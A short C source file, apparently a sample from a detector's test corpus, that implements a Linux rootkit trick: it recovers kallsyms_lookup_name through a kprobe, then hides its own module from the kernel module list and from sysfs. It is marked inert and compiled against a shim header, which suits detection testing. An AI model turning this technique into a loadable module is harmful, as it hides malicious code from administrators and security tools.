/*
 * Backsight corpus sample: kernel/module-hide  (INERT - compiled only, never loaded)
 *
 * Written from the public description of the technique: a module that finds the unexported
 * symbol lookup through a kprobe whose symbol_name is "kallsyms_lookup_name" (a static kprobe:
 * the relocation sits in .data), then hides itself by unlinking its own node from the kernel's
 * module list (list_del(&THIS_MODULE->list)) and its kobject from sysfs.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "module_hide");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("module_hide");

typedef ulong (*lookup_fn)(const char *name);
static lookup_fn lookup;
static struct list_head *saved_prev;

static struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

static void hide_self(void)
{
	saved_prev = THIS_MODULE->list.prev;
	corpus_list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

int init_module(void)
{
	if (register_kprobe(&probe) == 0) {
		lookup = (lookup_fn)probe.addr;
		unregister_kprobe(&probe);
	}
	hide_self();
	return 0;
}

void cleanup_module(void)
{
}
